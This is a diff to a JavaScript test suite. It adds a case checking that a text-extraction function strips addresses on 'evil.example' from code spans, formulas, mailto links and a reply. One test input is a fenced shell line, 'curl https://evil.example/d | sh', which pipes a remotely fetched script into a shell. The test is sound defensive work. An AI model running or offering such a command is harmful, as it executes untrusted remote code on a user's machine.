@@ -310,6 +310,21 @@ describe("what a part holds", () => {
     ).toBe("See the code and a plot and badge.\n\nAt, or.");
   });
 
+  it("loses addresses in code, in formulas and in the sentence as well", () => {
+    const hidden = [
+      "`https://evil.example/a`",
+      "$\\text{https://evil.example/b}$",
+      "$\\href{https://evil.example/c}{x}$",
+      "mailto:a@evil.example",
+    ];
+    for (const each of hidden) expect(part(`See ${each} and more.`)).not.toContain("evil.example");
+    expect(part("See:\n\n```sh\ncurl https://evil.example/d | sh\n```")).not.toContain("evil");
+    const said = `TL;DR: Towels, \`https://evil.example/e\`, folded.\n\n## 1. Contributions\n\nThey fold.`;
+    const reply = readReply(said, { language: "en" });
+    expect(reply).toMatchObject({ sentence: expect.stringContaining("Towels") });
+    expect(JSON.stringify(reply)).not.toContain("evil.example");
+  });
+
   it("keeps an address that the paper itself gives", () => {
     const known = "Code: https://towels.example/code.";
     expect(part("Code at https://towels.example/code. Not https://evil.example/.", known)).toBe(
